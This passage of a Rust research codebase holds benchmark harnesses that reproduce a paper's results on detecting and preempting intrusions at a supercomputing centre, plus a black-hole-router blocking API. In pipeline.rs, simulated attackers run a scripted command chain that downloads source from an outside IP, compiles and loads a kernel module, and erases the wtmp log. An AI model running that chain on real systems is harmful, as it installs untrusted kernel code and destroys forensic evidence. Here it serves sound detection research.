        simnet::addr::ncsa_production().contains(a) || simnet::addr::ncsa_secondary().contains(a)
    });
    compare("graph nodes", graph.node_count() as f64, 29_075.0);
    compare("graph edges", graph.edge_count() as f64, 27_336.0);

    // Annotation: scanners structurally, attacker/targets from detector
    // ground truth (the paper's manual cross-examination).
    let n_scanners = annotate_scanners(&mut graph, 20.0);
    graph.annotate(&gt.attacker.to_string(), NodeGroup::Attacker);
    for t in &gt.targets {
        graph.annotate(&t.to_string(), NodeGroup::Target);
    }
    println!("structural scanners annotated: {n_scanners}");
    println!("hub dominance: {:.3}", hub_dominance(&graph));
    for h in top_hubs(&graph, 3) {
        println!("  hub {:<18} degree {}", h.label, h.degree);
    }
    let attacker_id = graph
        .id_of(&gt.attacker.to_string())
        .expect("attacker present");
    println!(
        "real attack: {} -> 2 internal targets (degree {})",
        gt.attacker,
        graph.degree(attacker_id)
    );
    assert_eq!(
        graph.degree(attacker_id),
        2,
        "part B is exactly two connections"
    );

    let t0 = std::time::Instant::now();
    let (positions, stats) = layout(
        &graph,
        &LayoutConfig {
            max_iters: 60,
            ..Default::default()
        },
    );
    let elapsed = t0.elapsed();
    println!(
        "layout: levels={} iterations={} converged={} elapsed={:?}",
        stats.levels, stats.total_iterations, stats.converged, elapsed
    );

    // Structural check: the scanner star is tight around its hub compared
    // with the diffuse legit cloud (Fig. 1's visual contrast).
    let scanner_id = graph
        .id_of(&gt.mass_scanner.to_string())
        .expect("scanner present");
    let (sx, sy) = positions[scanner_id as usize];
    let mut star_d = Vec::new();
    for (i, n) in graph.nodes().iter().enumerate() {
        if n.group == NodeGroup::Internal && graph.neighbors(scanner_id).contains(&(i as u32)) {
            let (x, y) = positions[i];
            star_d.push(((x - sx).powi(2) + (y - sy).powi(2)).sqrt());
        }
    }
    let star_mean = star_d.iter().sum::<f64>() / star_d.len().max(1) as f64;
    println!("mean scanner-to-target distance: {star_mean:.2} (tight star)");

    let dot = to_dot(&graph, &DotOptions::default());
    std::fs::write("target/experiments/fig1.dot", &dot).expect("write dot");
    let svg = to_svg(&graph, &positions, &SvgOptions::default());
    std::fs::write("target/experiments/fig1.svg", &svg).expect("write svg");
    println!("wrote target/experiments/fig1.dot and fig1.svg");

    write_artifact(
        "fig1",
        &serde_json::json!({
            "nodes": graph.node_count(),
            "edges": graph.edge_count(),
            "paper": {"nodes": 29_075, "edges": 27_336},
            "mass_scanner": gt.mass_scanner.to_string(),
            "mass_scanner_degree": graph.degree(scanner_id),
            "attacker": gt.attacker.to_string(),
            "attack_edges": 2,
            "hub_dominance": hub_dominance(&graph),
            "layout_iterations": stats.total_iterations,
            "layout_levels": stats.levels,
        }),
    );
}
