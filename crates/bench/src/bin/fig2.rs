//! E3 — Fig. 2: daily alert volume over a sample month.
//!
//! The paper: "NCSA's monitors observe an average of 94,238 alerts per day
//! (standard deviation = 23,547) in a sample month", of which ~80 K are
//! repeated scans. We generate Oct 09 – Nov 20 (the figure's x-range) and
//! print the series.

use bench::{banner, compare, write_artifact};
use mining::stats::Summary;
use scenario::background::{stream_day, VolumeModel};
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};

fn main() {
    banner("Fig. 2: daily alert volume (E3)");
    let model = VolumeModel::default();
    let mut rng = SimRng::seed(0xF162);
    let start = SimTime::from_date(2024, 10, 9);
    let days = 43u64; // Oct 09 .. Nov 20 inclusive

    let mut series = Vec::with_capacity(days as usize);
    let mut scan_counts = Vec::with_capacity(days as usize);
    for d in 0..days {
        let day_start = start + SimDuration::from_days(d);
        let mut scans = 0u64;
        let total = stream_day(&model, &mut rng, day_start, &mut |a| {
            if matches!(
                a.kind,
                alertlib::AlertKind::PortScan | alertlib::AlertKind::AddressSweep
            ) {
                scans += 1;
            }
        });
        series.push(total);
        scan_counts.push(scans);
    }

    println!("\n{:<12}{:>12}{:>16}", "date", "alerts", "repeated scans");
    for (d, (&total, &scans)) in series.iter().zip(&scan_counts).enumerate() {
        let date = (start + SimDuration::from_days(d as u64)).date();
        if d % 7 == 0 || d == days as usize - 1 {
            println!(
                "{:<12}{:>12}{:>16}",
                format!("{} {:02}", date.month_abbrev(), date.day),
                total,
                scans
            );
        }
    }

    let totals: Vec<f64> = series.iter().map(|&x| x as f64).collect();
    let scans: Vec<f64> = scan_counts.iter().map(|&x| x as f64).collect();
    let s = Summary::of(&totals).expect("non-empty series");
    let sc = Summary::of(&scans).expect("non-empty series");
    println!();
    compare("daily mean", s.mean, 94_238.0);
    compare("daily std dev", s.std_dev, 23_547.0);
    compare("repeated scans per day", sc.mean, 80_000.0);

    write_artifact(
        "fig2",
        &serde_json::json!({
            "days": days,
            "series": series,
            "scan_series": scan_counts,
            "mean": s.mean,
            "std_dev": s.std_dev,
            "scan_mean": sc.mean,
            "paper": {"mean": 94_238, "std_dev": 23_547, "scans": 80_000},
        }),
    );
}
