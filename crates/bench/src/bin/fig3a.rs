//! E4 — Fig. 3a: CDF of pairwise attack similarity.
//!
//! Insight 1: "more than 95% of attacks have up to 33% of similar alerts".
//! We compute all pairwise Jaccard similarities over the corpus and print
//! the CDF at the paper's knee.

use bench::{banner, compare, write_artifact};
use mining::similarity_cdf;

fn main() {
    banner("Fig. 3a: attack similarity CDF (E4)");
    let store = bench::standard_corpus();
    let t0 = std::time::Instant::now();
    let cdf = similarity_cdf(&store);
    println!(
        "incidents: {}  pairs: {}  ({:?})",
        store.len(),
        cdf.len(),
        t0.elapsed()
    );

    println!("\n{:<14}{:>10}", "similarity", "CDF");
    let mut points = Vec::new();
    for i in 0..=10 {
        let x = i as f64 / 10.0;
        let f = cdf.fraction_le(x);
        points.push((x, f));
        println!("{:<14.2}{:>10.4}", x, f);
    }
    println!();
    compare(
        "fraction of pairs <= 0.33 similarity",
        cdf.fraction_le(0.33),
        0.95,
    );
    println!("median similarity: {:.3}", cdf.quantile(0.5));
    println!("p95 similarity   : {:.3}", cdf.quantile(0.95));

    write_artifact(
        "fig3a",
        &serde_json::json!({
            "pairs": cdf.len(),
            "cdf_points": points,
            "fraction_le_033": cdf.fraction_le(0.33),
            "median": cdf.quantile(0.5),
            "paper": {"fraction_le_033": ">= 0.95"},
        }),
    );
}
