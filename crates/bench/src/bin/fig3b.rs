//! E5 — Fig. 3b: counts of common alert sequences S1..S43.
//!
//! Insight 2: 43 recurring sequences, lengths 2–14, the most frequent seen
//! 14 times. Mining uses LCS-peer support (the number of incidents whose
//! shared signature with a peer is exactly the pattern) — see DESIGN.md
//! for how this reconciles with the 60.08% S1-motif prevalence, and the
//! `planted` series for the generator's ground-truth family sizes.

use bench::{banner, compare, write_artifact};
use mining::lcs::{mine_common_patterns, MinerConfig, SupportMode};

fn main() {
    banner("Fig. 3b: common alert sequences (E5)");
    let store = bench::standard_corpus();
    let t0 = std::time::Instant::now();
    let cfg = MinerConfig {
        min_len: 4,
        max_len: 14,
        min_support: 2,
        max_patterns: 43,
        support: SupportMode::LcsPeers,
    };
    let patterns = mine_common_patterns(&store, &cfg);
    println!("mined {} patterns in {:?}", patterns.len(), t0.elapsed());

    println!("\n{:<6}{:>9}{:>7}  sequence", "id", "count", "len");
    for p in &patterns {
        let preview: Vec<&str> = p.seq.iter().take(5).map(|k| k.symbol()).collect();
        let ellipsis = if p.seq.len() > 5 { ", …" } else { "" };
        println!(
            "{:<6}{:>9}{:>7}  [{}{}]",
            p.name(),
            p.support,
            p.len(),
            preview.join(", "),
            ellipsis
        );
    }

    // The generator's planted family-size distribution (the ground truth
    // the paper's own histogram shape encodes: max 14, tail of 2s).
    let planted = scenario::s_pattern_supports();
    println!(
        "\nplanted family sizes: max={} min={} n={}",
        planted[0],
        planted.last().unwrap(),
        planted.len()
    );
    println!();
    compare("number of patterns", patterns.len() as f64, 43.0);
    compare("planted max support", planted[0] as f64, 14.0);
    if let Some(top) = patterns.first() {
        println!(
            "mined top pattern: {} count={} (motif-superset counts run above the planted 14; see EXPERIMENTS.md)",
            top.name(),
            top.support
        );
    }
    let lens: Vec<usize> = patterns.iter().map(|p| p.len()).collect();
    println!(
        "mined lengths: min={} max={} (paper: 2–14)",
        lens.iter().min().unwrap_or(&0),
        lens.iter().max().unwrap_or(&0)
    );

    write_artifact(
        "fig3b",
        &serde_json::json!({
            "patterns": patterns
                .iter()
                .map(|p| serde_json::json!({
                    "id": p.name(),
                    "support": p.support,
                    "len": p.len(),
                    "seq": p.seq.iter().map(|k| k.symbol()).collect::<Vec<_>>(),
                }))
                .collect::<Vec<_>>(),
            "planted_supports": planted,
            "paper": {"patterns": 43, "max_count": 14, "lengths": "2-14"},
        }),
    );
}
