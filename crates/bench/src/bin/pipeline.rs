//! E8 — Fig. 4 pipeline: the testbed end to end under a mixed workload.
//!
//! A mixture of mass-scanner floods, benign traffic, and embedded attacks
//! flows through border filtering → monitors → symbolization → scan filter
//! → detection → response. Reports per-stage counts and throughput for the
//! in-line (deterministic) and crossbeam-streaming variants.

use bench::{banner, write_artifact};
use simnet::prelude::*;
use testbed::{Testbed, TestbedConfig};

fn main() {
    banner("Fig. 4 pipeline throughput (E8)");
    let mut tb = Testbed::new(TestbedConfig::default());
    let start = tb.config().start;
    let production = simnet::addr::ncsa_production();

    let mut actions: Vec<(SimTime, Action)> = Vec::new();
    let mut id = 0u64;
    // 1) Mass scanner flood: 50k probes.
    for i in 0..50_000u64 {
        let t = start + SimDuration::from_millis(i * 4);
        id += 1;
        actions.push((
            t,
            Action::Flow(Flow::probe(
                FlowId(id),
                t,
                "103.102.8.9".parse().unwrap(),
                production.nth(i % 65_536),
                22,
            )),
        ));
    }
    // 2) Benign traffic: 20k established flows.
    let mut rng = SimRng::seed(42);
    for i in 0..20_000u64 {
        let t = start + SimDuration::from_millis(i * 10);
        id += 1;
        actions.push((
            t,
            Action::Flow(Flow::established(
                FlowId(id),
                t,
                SimDuration::from_secs(rng.range_u64(1, 120)),
                production.nth(rng.range_u64(256, 20_000)),
                (40_000 + (i % 20_000)) as u16,
                production.nth(rng.range_u64(256, 20_000)),
                [22, 443, 2049][rng.index(3)],
                rng.range_u64(500, 100_000),
                rng.range_u64(500, 100_000),
            )),
        ));
    }
    // 3) Three embedded S1 attacks on compute nodes.
    for (k, user) in ["eve", "mallory", "trudy"].iter().enumerate() {
        let host = simnet::topology::HostId(4 + k as u32);
        for (i, cmd) in [
            "wget http://64.215.4.5/abs.c",
            "make -C /lib/modules/4.4/build modules",
            "insmod abs.ko",
            "echo 0>/var/log/wtmp",
        ]
        .iter()
        .enumerate()
        {
            let t = start + SimDuration::from_mins(5 + 11 * i as u64 + k as u64);
            actions.push((
                t,
                Action::Exec(ExecAction {
                    host,
                    user: user.to_string(),
                    pid: (1_000 * (k + 1) + i) as u32,
                    ppid: 1,
                    exe: "/bin/bash".into(),
                    cmdline: cmd.to_string(),
                }),
            ));
        }
    }
    let n_actions = actions.len();
    tb.schedule(actions);

    let t0 = std::time::Instant::now();
    let report = tb.run();
    let elapsed = t0.elapsed();
    let throughput = n_actions as f64 / elapsed.as_secs_f64();

    println!("\nper-stage counts:");
    println!("  actions (E1..En)      : {}", report.actions);
    println!("  flows routed          : {}", report.router.total());
    println!("  flows dropped (BHR)   : {}", report.router.dropped);
    println!("  records               : {}", report.records);
    println!("  alerts (symbolized)   : {}", report.alerts);
    println!("  alerts after filter   : {}", report.alerts_filtered);
    println!("  detections            : {}", report.detections);
    println!("  blocked sources       : {}", report.blocked_sources);
    println!("\nin-line pipeline: {n_actions} actions in {elapsed:?} ({throughput:.0} actions/s)");
    assert_eq!(
        report.detections, 3,
        "the three embedded attacks must be detected"
    );
    for n in &report.notifications {
        println!("  [{}] {}", n.ts, n.message);
    }

    // Streaming comparison on a pre-collected record stream.
    let records: Vec<telemetry::LogRecord> = {
        use simnet::engine::ActionSink;
        // Rebuild the same scan workload and collect raw records.
        let topo = simnet::topology::NcsaTopologyBuilder::default().build();
        let mut hub = telemetry::MonitorHub::standard();
        let mut engine = simnet::engine::Engine::new(topo, start);
        for i in 0..50_000u64 {
            let t = start + SimDuration::from_millis(i * 4);
            engine.schedule(
                t,
                Action::Flow(Flow::probe(
                    FlowId(i),
                    t,
                    "103.102.8.9".parse().unwrap(),
                    production.nth(i % 65_536),
                    22,
                )),
            );
        }
        engine.run(&mut [&mut hub as &mut dyn ActionSink]);
        hub.drain()
    };
    let n_records = records.len();
    let t1 = std::time::Instant::now();
    let stream_report = testbed::PipelineBuilder::new()
        .tagger(detect::AttackTagger::new(
            bench::standard_model(),
            detect::TaggerConfig::default(),
        ))
        .executor(testbed::ExecutorKind::Threaded)
        .alert_retention(0)
        .build()
        .run(records);
    let stats = stream_report.stats;
    let stream_elapsed = t1.elapsed();
    println!(
        "\nstreaming pipeline: {} records in {:?} ({:.0} records/s) -> {} alerts, {} admitted, {} detections",
        n_records,
        stream_elapsed,
        n_records as f64 / stream_elapsed.as_secs_f64(),
        stats.alerts,
        stats.admitted,
        stats.detections
    );

    write_artifact(
        "pipeline",
        &serde_json::json!({
            "actions": report.actions,
            "records": report.records,
            "alerts": report.alerts,
            "alerts_filtered": report.alerts_filtered,
            "detections": report.detections,
            "blocked_sources": report.blocked_sources,
            "router_dropped": report.router.dropped,
            "inline_actions_per_sec": throughput,
            "streaming_records_per_sec": n_records as f64 / stream_elapsed.as_secs_f64(),
        }),
    );
}
