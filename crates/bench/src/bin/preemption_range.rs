//! E11 — Insight 2's effective range: detection as a function of the
//! observed alert prefix, plus the full detector comparison (the ablation
//! DESIGN.md calls out: factor graph vs rule-based vs critical-only).
//!
//! "An attack preemption model must work with sequences of two to five
//! alerts to detect the attack."

use bench::{banner, write_artifact};
use detect::{
    evaluate, prefix_sweep, AttackTagger, CriticalOnlyDetector, RuleBasedDetector,
    SequenceDetector, TaggerConfig,
};

fn main() {
    banner("Preemption effective range (E11)");
    let store = bench::standard_corpus();
    let benign = bench::standard_benign(400);
    let model = bench::standard_model();

    let tagger = AttackTagger::new(model, TaggerConfig::default());
    let rules = RuleBasedDetector::with_default_rules();
    let critical = CriticalOnlyDetector::new();
    let detectors: Vec<(&str, &dyn SequenceDetector)> = vec![
        ("attack-tagger", &tagger),
        ("rule-based", &rules),
        ("critical-only", &critical),
    ];

    // Prefix sweep over *attack-session* alerts: the detector keys on the
    // compromised account's entity (§III-B), so Insight 2's "two to four
    // alerts" counts the alerts of that session, not the unauthenticated
    // scan prologue that precedes it under a different entity.
    let session_store = {
        let mut s = alertlib::IncidentStore::new();
        for inc in store.iter() {
            let mut trimmed = alertlib::Incident::new(inc.id, inc.family.clone(), inc.year);
            trimmed.report = inc.report.clone();
            for a in &inc.alerts {
                if matches!(a.entity, alertlib::Entity::User(_)) {
                    trimmed.push_alert(*a);
                }
            }
            if !trimmed.is_empty() {
                s.add(trimmed);
            }
        }
        s
    };
    println!("\ndetection rate vs observed attack-session prefix length:");
    print!("{:<8}", "k");
    for (name, _) in &detectors {
        print!("{name:>16}");
    }
    println!();
    let mut sweeps = Vec::new();
    for k in 1..=8 {
        print!("{k:<8}");
        for (_, det) in &detectors {
            let sweep = prefix_sweep(*det, &session_store, k);
            let rate = sweep.last().map(|(_, r)| *r).unwrap_or(0.0);
            print!("{rate:>16.3}");
        }
        println!();
    }
    for (name, det) in &detectors {
        let sweep = prefix_sweep(*det, &session_store, 8);
        sweeps.push(serde_json::json!({"detector": name, "sweep": sweep}));
    }
    // Insight 2's effective range: by 2–4 session alerts the factor-graph
    // model has substantial detection; one alert is not enough.
    let tagger_sweep = prefix_sweep(&tagger, &session_store, 4);
    let rate_at = |k: usize| {
        tagger_sweep
            .iter()
            .find(|(kk, _)| *kk == k)
            .map(|(_, r)| *r)
            .unwrap_or(0.0)
    };
    println!(
        "\ninsight 2 check: tagger detection at k=1: {:.3}, k=4: {:.3}",
        rate_at(1),
        rate_at(4)
    );
    assert!(
        rate_at(4) > 0.8,
        "2-4 session alerts must be the effective range"
    );

    // Full evaluation: recall / precision / preemption / lead.
    println!(
        "\nfull-sequence evaluation (with {} benign sessions):",
        benign.len()
    );
    println!(
        "{:<16}{:>8}{:>10}{:>8}{:>12}{:>12}{:>14}",
        "detector", "recall", "precision", "f1", "preempted", "rate", "lead (h)"
    );
    let mut evals = Vec::new();
    for (name, det) in &detectors {
        let (_, s) = evaluate(*det, &store, &benign);
        println!(
            "{:<16}{:>8.3}{:>10.3}{:>8.3}{:>12}{:>12.3}{:>14.1}",
            name,
            s.recall,
            s.precision,
            s.f1,
            s.preempted,
            s.preemption_rate,
            s.mean_lead_secs / 3_600.0
        );
        evals.push(serde_json::json!({
            "detector": name,
            "recall": s.recall,
            "precision": s.precision,
            "f1": s.f1,
            "preempted": s.preempted,
            "preemption_rate": s.preemption_rate,
            "mean_lead_hours": s.mean_lead_secs / 3_600.0,
            "false_positives": s.false_positives,
        }));
    }
    // The structural claims of the paper.
    let (_, tagger_eval) = evaluate(&tagger, &store, &benign);
    let (_, critical_eval) = evaluate(&critical, &store, &benign);
    assert!(
        tagger_eval.preemption_rate > critical_eval.preemption_rate,
        "the factor-graph model must preempt where critical-only cannot"
    );
    assert_eq!(
        critical_eval.preemption_rate, 0.0,
        "Insight 4: critical-only never preempts"
    );

    write_artifact(
        "preemption_range",
        &serde_json::json!({
            "prefix_sweeps": sweeps,
            "evaluations": evals,
            "paper": {"effective_range": "2-4 alerts", "critical_only_preemption": 0.0},
        }),
    );
}
