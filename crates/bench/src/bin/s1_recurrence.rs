//! E6 — the S1 motif claim: "first observed in 2002, continues to appear
//! in attacks as of 2024 and was found in 60.08% (137 out of more than
//! 200) of past security incidents."

use bench::{banner, compare, write_artifact};
use mining::{measure_recurrence, s1_pattern};
use scenario::pin_motif_span;

fn main() {
    banner("S1 motif recurrence (E6)");
    let mut store = bench::standard_corpus();
    pin_motif_span(&mut store);
    let rec = measure_recurrence(&store, &s1_pattern());

    println!("motif: download source over HTTP -> compile kernel module -> erase forensic trace");
    println!("incidents containing motif : {}/{}", rec.hits, rec.total);
    println!("first year                 : {:?}", rec.first_year);
    println!("last year                  : {:?}", rec.last_year);
    println!("span                       : {:?} years", rec.span_years());
    println!("distinct years             : {}", rec.years.len());
    println!();
    compare("support fraction", rec.support_fraction(), 0.6008);
    compare("hits", rec.hits as f64, 137.0);
    assert!(
        rec.first_year.unwrap_or(9999) <= 2002,
        "recurrence must reach back to 2002"
    );
    assert!(
        rec.last_year.unwrap_or(0) >= 2024,
        "recurrence must reach 2024"
    );

    write_artifact(
        "s1_recurrence",
        &serde_json::json!({
            "hits": rec.hits,
            "total": rec.total,
            "support_fraction": rec.support_fraction(),
            "first_year": rec.first_year,
            "last_year": rec.last_year,
            "years": rec.years,
            "paper": {"support": 0.6008, "hits": 137, "first": 2002, "last": 2024},
        }),
    );
}
