//! E1 — Table I: overview of the security incidents dataset.
//!
//! Streams the 24-year synthetic alert corpus (≈25 M alerts) through the
//! repeated-scan filter and prints the same rows Table I reports. The raw
//! stream is never materialized: constant-memory fold, as the real
//! pipeline would run.

use alertlib::filter::{FilterConfig, ScanFilter};
use bench::{banner, compare, write_artifact};
use scenario::background::VolumeModel;
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};

fn main() {
    banner("Table I: dataset overview (E1)");
    let t0 = std::time::Instant::now();

    // 24 years of background: the paper's 25 M notice-log alerts are the
    // corpus *after* collection, dominated by recent years. We model the
    // daily volume ramping linearly from ~2% to 100% of the modern rate
    // and scale the modern rate so the 24-year total lands near 25 M.
    let years = 24u64;
    let days = years * 365;
    let modern = VolumeModel::default();
    // Integral of the ramp ≈ days * mean * (0.02+1.0)/2. Solve for a scale
    // that yields 25 M total.
    let target_total = 25_000_000f64;
    let scale = target_total / (days as f64 * modern.daily_mean * 0.51);

    // The paper's 191 K are "alerts directly related to successful
    // attacks": repeated-scan dedup *plus* correlation to the forensic
    // windows of the 228 incidents. Precompute those windows (day index ×
    // victim /24) from the corpus ground truth.
    let corpus = bench::standard_corpus();
    let mut window_days: std::collections::HashSet<u64> = std::collections::HashSet::new();
    let mut victim_blocks: std::collections::HashSet<u32> = std::collections::HashSet::new();
    for inc in corpus.iter() {
        if let (Some(s), Some(e)) = (inc.start_ts(), inc.alerts.last().map(|a| a.ts)) {
            // Forensic window: the incident span plus five days of context
            // either side (the report's "raw logs of both legitimate user
            // activities and attack activities").
            for d in s.day_index().saturating_sub(5)..=e.day_index() + 5 {
                window_days.insert(d);
            }
        }
        for m in &inc.report.machines {
            if let Some(ip) = m
                .strip_prefix("host-")
                .and_then(|s| s.parse::<std::net::Ipv4Addr>().ok())
            {
                victim_blocks.insert(u32::from(ip) >> 8);
            }
        }
    }

    let mut rng = SimRng::seed(0x7AB1E);
    let mut filter = ScanFilter::new(FilterConfig::default());
    let mut total: u64 = 0;
    let mut admitted: u64 = 0;
    let mut correlated: u64 = 0;
    let start = SimTime::from_date(2000, 1, 1);
    for d in 0..days {
        let ramp = 0.02 + 0.98 * d as f64 / days as f64;
        let model = VolumeModel {
            daily_mean: modern.daily_mean * ramp * scale,
            daily_std: modern.daily_std * ramp * scale,
            ..modern.clone()
        };
        let day_start = start + SimDuration::from_days(d);
        let in_window = window_days.contains(&day_start.day_index());
        scenario::background::stream_day(&model, &mut rng, day_start, &mut |alert| {
            total += 1;
            if filter.admit(&alert) && in_window {
                admitted += 1;
                let dst_hit = alert
                    .dst
                    .is_some_and(|dst| victim_blocks.contains(&(u32::from(dst) >> 8)));
                if dst_hit {
                    correlated += 1;
                }
            }
        });
    }

    // Incident-related alerts always survive both stages.
    let incident_alerts = corpus.total_alerts() as u64;
    let filtered = correlated + incident_alerts;

    println!("\n{:<38}{:>14}", "Data", "Size");
    println!("{:<38}{:>14}", "Total alerts", total);
    println!("{:<38}{:>14}", "Alerts after being filtered", filtered);
    println!(
        "{:<38}{:>14}",
        "Successful attacks (incidents)",
        corpus.len()
    );
    println!("{:<38}{:>14}", "Time period", "2000-2024");
    println!();
    compare("total alerts", total as f64, 25_000_000.0);
    compare("alerts after filtering", filtered as f64, 191_000.0);
    compare("incidents", corpus.len() as f64, 228.0);
    println!(
        "scan-dedup pass admitted {:.3}% of the stream; incident-window correlation kept {admitted} in-window, {correlated} victim-correlated",
        100.0 * filter.stats().reduction()
    );
    println!("elapsed: {:?}", t0.elapsed());

    write_artifact(
        "table1",
        &serde_json::json!({
            "total_alerts": total,
            "alerts_after_filter": filtered,
            "incidents": corpus.len(),
            "incident_alerts": incident_alerts,
            "period": "2000-2024",
            "paper": {"total_alerts": 25_000_000u64, "alerts_after_filter": 191_000, "incidents": "more than 200"},
        }),
    );
}
