//! # bench — experiment harnesses
//!
//! One binary per paper artifact (see `EXPERIMENTS.md` at the workspace
//! root). Each binary regenerates its table/figure from scratch with fixed
//! seeds, prints the same rows/series the paper reports, and writes a
//! machine-readable JSON copy under `target/experiments/`.
//!
//! | binary | artifact |
//! |---|---|
//! | `table1` | Table I — dataset overview |
//! | `fig1` | Fig. 1 — attack graph |
//! | `fig2` | Fig. 2 — daily alert volume |
//! | `fig3a` | Fig. 3a — attack similarity CDF |
//! | `fig3b` | Fig. 3b — common-sequence counts |
//! | `s1_recurrence` | §I/§II — 60.08% S1 motif claim |
//! | `criticality` | Insights 3+4 — timing & critical alerts |
//! | `pipeline` | Fig. 4 — testbed pipeline throughput |
//! | `case_study` | §V — ransomware preemption & 12-day lead |
//! | `annotation` | §II-A — 99.7% auto-annotation |
//! | `preemption_range` | Insight 2 — 2–4 alert effective range |

use std::path::PathBuf;

/// Where experiment JSON artifacts land.
pub fn artifact_dir() -> PathBuf {
    let dir = PathBuf::from("target/experiments");
    std::fs::create_dir_all(&dir).expect("create target/experiments");
    dir
}

/// Write a JSON artifact and report the path.
pub fn write_artifact(name: &str, value: &serde_json::Value) {
    let path = artifact_dir().join(format!("{name}.json"));
    std::fs::write(
        &path,
        serde_json::to_string_pretty(value).expect("serialize"),
    )
    .expect("write artifact");
    println!("[artifact] {}", path.display());
}

/// Section header for harness output.
pub fn banner(title: &str) {
    println!("\n==== {title} ====");
}

/// Serialize a stream report's detection/notification stream to one
/// canonical string — the byte-identity witness the executor benchmarks
/// (`bench2`, `bench3`) compare across executors. Defined once so both
/// benches assert the same identity predicate.
pub fn detection_bytes(report: &testbed::StreamReport) -> String {
    use std::fmt::Write as _;
    let mut s = String::new();
    for n in &report.notifications {
        let _ = writeln!(
            s,
            "{}|{}|{}|{}|{}|{:.9}|{}|{}",
            n.ts,
            n.entity,
            n.source,
            n.detection.ts,
            n.detection.trigger,
            n.detection.score,
            n.detection.stage,
            n.message,
        );
    }
    s
}

/// Compare a measured value against the paper's value, reporting the
/// relative deviation.
pub fn compare(label: &str, measured: f64, paper: f64) {
    let rel = if paper != 0.0 {
        (measured - paper) / paper * 100.0
    } else {
        0.0
    };
    println!("{label:<44} measured={measured:>12.4}  paper={paper:>12.4}  ({rel:+.1}%)");
}

/// The standard experiment corpus (fixed seed) shared by several
/// harnesses.
pub fn standard_corpus() -> alertlib::store::IncidentStore {
    scenario::generate_corpus(&scenario::LongitudinalConfig::default())
}

/// Standard benign sessions for training/evaluation.
pub fn standard_benign(n: usize) -> Vec<Vec<alertlib::alert::Alert>> {
    let mut rng = simnet::rng::SimRng::seed(0xBE19);
    scenario::benign_sessions(&mut rng, n, simnet::time::SimTime::from_date(2024, 1, 1))
}

/// Train the detector on the standard corpus.
pub fn standard_model() -> factorgraph::chain::ChainModel {
    detect::train::train(
        &standard_corpus(),
        &standard_benign(400),
        &detect::train::TrainConfig::default(),
    )
}

#[cfg(test)]
mod tests {
    #[test]
    fn artifact_dir_creatable() {
        let d = super::artifact_dir();
        assert!(d.exists());
    }

    #[test]
    fn standard_corpus_is_stable() {
        let a = super::standard_corpus();
        let b = super::standard_corpus();
        assert_eq!(a.len(), b.len());
        assert_eq!(a.total_alerts(), b.total_alerts());
    }
}
