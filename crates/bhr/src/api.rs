//! Programmable BHR API.
//!
//! §IV: the testbed interfaces "with a Black Hole router through
//! automated/programmable Application Programming Interface (API) of the
//! Black Hole Router for real-time response". The API mirrors the verbs of
//! `ncsa/bhr-client` (block / unblock / query / list) over a shared,
//! thread-safe table, and keeps an audit log of every call.

use std::net::Ipv4Addr;
use std::sync::Arc;

use parking_lot::Mutex;
use serde::{Deserialize, Serialize};
use simnet::time::{SimDuration, SimTime};

use crate::retry::{BlockBackend, BlockError, ReliableBackend};
use crate::table::{Block, BlockOutcome, NullRouteTable, TableStats};

/// One audited API call.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AuditEntry {
    pub ts: SimTime,
    pub command: String,
    pub addr: Option<Ipv4Addr>,
    pub detail: String,
}

/// Shared handle to the BHR. Cloneable; all clones address the same table
/// (and the same delivery backend).
#[derive(Clone)]
pub struct BhrHandle {
    inner: Arc<Mutex<NullRouteTable>>,
    audit: Arc<Mutex<Vec<AuditEntry>>>,
    backend: Arc<Mutex<Box<dyn BlockBackend>>>,
}

impl std::fmt::Debug for BhrHandle {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("BhrHandle")
            .field("active_blocks", &self.inner.lock().len())
            .finish_non_exhaustive()
    }
}

impl Default for BhrHandle {
    fn default() -> Self {
        BhrHandle {
            inner: Arc::default(),
            audit: Arc::default(),
            backend: Arc::new(Mutex::new(Box::new(ReliableBackend))),
        }
    }
}

impl BhrHandle {
    pub fn new() -> Self {
        Self::default()
    }

    /// A handle whose block RPCs go through `backend` — the fault
    /// injection point for the response path. The default handle uses the
    /// always-successful [`ReliableBackend`].
    pub fn with_backend(backend: impl BlockBackend + 'static) -> Self {
        BhrHandle {
            backend: Arc::new(Mutex::new(Box::new(backend))),
            ..Self::default()
        }
    }

    fn log(&self, ts: SimTime, command: &str, addr: Option<Ipv4Addr>, detail: impl Into<String>) {
        self.audit.lock().push(AuditEntry {
            ts,
            command: command.to_string(),
            addr,
            detail: detail.into(),
        });
    }

    /// `bhr-client block`: install a null route. Infallible — bypasses
    /// the delivery backend (an operator at the console, or legacy
    /// callers that predate the fallible path). Idempotent: a re-delivery
    /// of an already-active block with the same reason neither
    /// double-counts in [`TableStats`] nor spams the audit log.
    pub fn block(
        &self,
        ts: SimTime,
        addr: Ipv4Addr,
        reason: impl Into<String>,
        ttl: Option<SimDuration>,
    ) -> BlockOutcome {
        let reason = reason.into();
        let outcome = self.inner.lock().block(addr, reason.clone(), ts, ttl);
        if outcome != BlockOutcome::Duplicate {
            self.log(ts, "block", Some(addr), reason);
        }
        outcome
    }

    /// Fallible `block`: deliver through the configured [`BlockBackend`]
    /// first; the table is only updated (and the call audited as
    /// `block`) when the RPC succeeds. A failed delivery is audited as
    /// `block-failed` and leaves the table untouched — the caller's
    /// retry policy decides what happens next.
    pub fn try_block(
        &self,
        ts: SimTime,
        addr: Ipv4Addr,
        reason: impl Into<String>,
        ttl: Option<SimDuration>,
    ) -> Result<BlockOutcome, BlockError> {
        let reason = reason.into();
        match self.backend.lock().try_block(ts, addr, &reason, ttl) {
            Ok(()) => {
                let outcome = self.inner.lock().block(addr, reason.clone(), ts, ttl);
                if outcome != BlockOutcome::Duplicate {
                    self.log(ts, "block", Some(addr), reason);
                }
                Ok(outcome)
            }
            Err(e) => {
                self.log(ts, "block-failed", Some(addr), e.to_string());
                Err(e)
            }
        }
    }

    /// Batched `block`: install many null routes taking each lock once,
    /// for response stages that emit blocks per pipeline batch instead of
    /// per detection. Idempotent like [`BhrHandle::block`].
    pub fn block_batch<I>(&self, blocks: I)
    where
        I: IntoIterator<Item = (SimTime, Ipv4Addr, String, Option<SimDuration>)>,
    {
        let mut table = self.inner.lock();
        let mut audit = self.audit.lock();
        for (ts, addr, reason, ttl) in blocks {
            if table.block(addr, reason.clone(), ts, ttl) == BlockOutcome::Duplicate {
                continue;
            }
